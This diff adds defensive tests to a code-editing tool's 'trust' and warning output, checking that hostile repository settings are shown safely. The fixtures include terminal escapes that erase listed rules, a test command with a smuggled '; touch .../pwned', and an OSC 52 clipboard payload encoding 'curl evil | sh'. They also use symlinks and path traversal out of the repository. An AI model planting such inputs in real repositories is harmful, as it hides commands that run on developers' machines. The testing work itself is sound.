@@ -17,6 +17,7 @@ from cadedit.backends.model import LoadedModel, chat_prompt, encode
 from cadedit.options import EditOptions, Mode
 from cadedit.decode.pipeline import prepare
 from tests.conftest import console_script
+from tests.terminal import on_a_terminal
 from tests.tinymodel import make_model
 from tests.tinytok import make_tokenizer
 
@@ -262,3 +263,111 @@ def test_a_prompt_without_special_text_is_encoded_as_before():
     messages = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "def f(): pass"}]
     prompt, ids = chat_prompt(TOK, messages, "```python\n")
     assert ids == TOK.encode(prompt, add_special_tokens=False)
+
+
+# -- what `cadedit trust` shows is what runs (issue 63, items 1, 7, 15, 17) ---------------------------
+
+HIDING_KEY = "\x1b[1A\x1b[2K\x1b[1A\x1b[2K\x1b[G"  # cursor up, erase the line: twice; back to column 1
+
+
+def _toml_key(text: str) -> str:
+    return '"' + "".join(f"\\u{ord(ch):04x}" if ch < " " else ch for ch in text) + '"'
+
+
+def test_trust_shows_keys_and_values_with_control_characters_visible_on_a_terminal(cloned, tmp_path):
+    """A key of terminal escapes cannot erase the rule listed before it: on a real terminal the output
+    holds no ESC of the repository's, the key is quoted and its escapes are visible."""
+    (cloned / ".cadedit.toml").write_text(
+        f'[[rules]]\nfiles = "*.py"\ninstruction = "Fix it."\ntest = "pytest -q; touch {tmp_path}/pwned"\n'
+    )
+    (cloned / "pyproject.toml").write_text(
+        f'[tool.cadedit]\n{_toml_key(HIDING_KEY + "fake listing")} = "verify"\nmode = "verify\\u001b[2K"\n'
+    )
+    code, shown = on_a_terminal("trust", cwd=cloned)
+    assert code == 0, shown
+    assert b"\x1b[1A" not in shown and b"\x1b[2K" not in shown and b"\x1b[G" not in shown, shown
+    text = shown.decode()
+    assert f"touch {tmp_path}/pwned" in text
+    assert '"\\u001b[1A\\u001b[2K\\u001b[1A\\u001b[2K\\u001b[Gfake listing" = "verify"  (not a cadedit setting)' in text
+    assert 'mode = "verify\\u001b[2K"' in text
+
+
+def test_the_unapproved_warning_shows_keys_with_control_characters_visible(cloned):
+    """The warning on every `cadedit fix` in a repository not approved: OSC 52 (sets the clipboard) and
+    erase-line in a key reach stderr made visible, never as the bytes a terminal acts on."""
+    osc52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[1A\x1b[2K"
+    (cloned / ".cadedit.toml").write_text(f"{_toml_key(osc52)} = 0\n{_toml_key('m' + chr(0x9B) + '2K')} = 1\n")
+    done = cadedit("fix", "a.py", "Fix it.", "--tries", "1", "-q", cwd=cloned)
+    warning = [line for line in done.stderr.splitlines() if line.startswith("warning:")]
+    assert "\x1b" not in done.stderr and "\x07" not in done.stderr and "\x9b" not in done.stderr, done.stderr
+    assert len(warning) == 1, done.stderr
+    assert '("\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007\\u001b[1A\\u001b[2K", "m<U+009B>2K")' in warning[0]
+
+
+def test_a_settings_file_linked_out_of_the_repository_is_not_used_approved_or_approvable(cloned, tmp_path):
+    """Repository B's .cadedit.toml is a link to approved repository A's: B is not approved by A's
+    approval; fix warns and ignores it, the hook names it, `trust` refuses it, `trust --remove` in B
+    finds nothing, and A stays approved."""
+    assert cadedit("trust", cwd=cloned).returncode == 0
+    other = tmp_path / "other"
+    other.mkdir()
+    subprocess.run(["git", "init", "-q"], cwd=other, check=True)
+    (other / "a.py").write_text("x = 1\n")
+    (other / ".cadedit.toml").symlink_to(Path("..", cloned.name, ".cadedit.toml"))
+    done = cadedit("fix", "a.py", "Fix it.", "--tries", "1", cwd=other)
+    assert "/chosen/by/the/repository" not in done.stderr.split("warning:")[0], done.stderr
+    assert f"warning: {other / '.cadedit.toml'}: ignored, a link to {cloned / '.cadedit.toml'}, outside the " in (
+        done.stderr
+    )
+    hook = cadedit("hook", "run", cwd=other, env={"CADEDIT_MODEL": str(other / "no-model")})
+    assert hook.returncode == 1 and "a link to" in hook.stderr and "outside the repository" in hook.stderr
+    refused = cadedit("trust", cwd=other)
+    assert refused.returncode == 1 and "not approvable" in refused.stderr and "outside the repository" in refused.stderr
+    assert cadedit("trust", "--remove", cwd=other).stderr == f"cadedit: nothing approved in {other}\n"
+    assert "error: model '/chosen/by/the/repository'" in cadedit("fix", "a.py", "Fix it.", cwd=cloned).stderr
+    (other / "pyproject.toml").write_text('[tool.cadedit]\nmode = "verify"\n')
+    beside = cadedit("trust", cwd=other)
+    assert beside.returncode == 0 and f"approved {other / 'pyproject.toml'}" in beside.stderr
+    assert f"warning: {other / '.cadedit.toml'}: ignored, a link to" in beside.stderr
+
+
+def test_an_approval_is_of_the_path_the_file_is_found_at_not_of_what_it_links_to(tmp_path):
+    """Two folders outside any repository (the search goes up to /): B's link to A's approved file is
+    read, but it is B's file to approve; `trust --remove` in B withdraws B's approval, A's stays."""
+    first, second = tmp_path / "first", tmp_path / "second"
+    for folder in (first, second):
+        folder.mkdir()
+        (folder / "a.py").write_text("x = 1\n")
+    (first / ".cadedit.toml").write_text('model = "/chosen/in/first"\n')
+    (second / ".cadedit.toml").symlink_to(first / ".cadedit.toml")
+    assert cadedit("trust", cwd=first).returncode == 0
+    unapproved = cadedit("fix", "a.py", "Fix it.", "--tries", "1", cwd=second)
+    assert "/chosen/in/first" not in unapproved.stderr.split("warning:")[0] and "not approved" in unapproved.stderr
+    assert cadedit("trust", cwd=second).returncode == 0
+    assert "error: model '/chosen/in/first'" in cadedit("fix", "a.py", "Fix it.", cwd=second).stderr
+    removed = cadedit("trust", "--remove", cwd=second)
+    assert removed.stderr == f"cadedit: {second / '.cadedit.toml'}: approval withdrawn\n"
+    assert "not approved" in cadedit("fix", "a.py", "Fix it.", cwd=second).stderr
+    assert "error: model '/chosen/in/first'" in cadedit("fix", "a.py", "Fix it.", cwd=first).stderr
+
+
+@pytest.mark.parametrize(
+    "model, link, outside",
+    [
+        ("models/../../../../tmp/elsewhere/coder.gguf", None, True),
+        ("models/coder.gguf", "/tmp/elsewhere/coder.gguf", True),
+        ("/opt/models/coder.gguf", None, True),
+        ("models/coder.gguf", None, False),
+        ("models/coder.gguf", "../weights/coder.gguf", False),
+        ("Qwen/Qwen2.5-Coder-1.5B-Instruct", None, False),
+    ],
+)
+def test_trust_marks_a_model_outside_the_repository_by_its_resolved_path(cloned, model, link, outside):
+    (cloned / ".cadedit.toml").write_text(f'model = "{model}"\n')
+    (cloned / "models").mkdir()
+    if link is not None:
+        (cloned / "models" / "coder.gguf").symlink_to(link)
+    done = cadedit("trust", cwd=cloned)
+    listed = [line for line in done.stderr.splitlines() if line.startswith("    model =")]
+    assert done.returncode == 0 and len(listed) == 1, done.stderr
+    assert ("(a model outside this repository: check that it is one of yours)" in listed[0]) == outside
